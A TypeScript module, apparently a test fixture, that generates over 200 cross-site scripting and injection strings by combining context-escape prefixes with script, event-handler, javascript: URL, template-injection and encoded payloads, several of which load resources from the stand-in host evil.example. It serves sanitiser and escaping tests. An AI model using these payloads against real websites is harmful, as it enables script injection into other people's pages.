/** Texts that call `ran()` or `evil.example` wherever somebody takes them for markup, a script, a style or an address. */

/** What leads out of the place a careless writer puts a text into. */
const wayOut = [
  ...['', '">', "'>", '>', '</title>', '</textarea>', '</style>', '</script>', '</text>', '</svg>', '-->'],
  ...[']]>', '`', '\\"', '\u202e', '<![CDATA[', '"/>'],
];

/** What runs, or asks another site, once it is out. */
const deeds = [
  '<img src=x onerror=ran()>',
  '<svg onload=ran()>',
  '<script>ran()</script>',
  '<iframe srcdoc="<script>top.ran()</script>">',
  '<a href=javascript:ran() autofocus onfocus=ran()>x</a>',
  '<details open ontoggle=ran()>',
  '<input autofocus onfocus=ran()>',
  '<math><mtext><style><img src onerror=ran()>',
  '<object data=javascript:ran()></object>',
  '<style>@import "//evil.example/a.css"</style>',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<foreignObject><body onload=ran()>',
];

const alone = [
  'javascript:ran()',
  'JaVaScRiPt\u003aran()',
  'data:text/html,<script>ran()</script>',
  '[go](javascript:ran())',
  '[go](data:text/html,<script>ran()</script>)',
  '![see](//evil.example/a.png)',
  '<javascript:ran()>',
  '${ran()}',
  '{{constructor.constructor("ran()")()}}',
  '" onmouseover=ran() x="',
  "' onfocus=ran() autofocus x='",
  '&lt;img src=x onerror=ran()&gt;',
  '&#60;script&#62;ran()&#60;/script&#62;',
  '%3Cscript%3Eran()%3C/script%3E',
  '\u003cimg src=x onerror=ran()\u003e',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<image xlink:href="//evil.example/a.svg">',
  '<use href="//evil.example/a.svg#a"/>',
  'url(//evil.example/a.png)',
  '__proto__',
];

/** More than 200, each different from all others. */
export const hostileTexts: readonly string[] = [
  ...alone,
  ...wayOut.flatMap((out) => deeds.map((deed) => out + deed)),
];

/** Those that fit where at most so many characters are taken. */
export function hostileWithin(longest: number): readonly string[] {
  return hostileTexts.filter((text) => text.length <= longest);
}
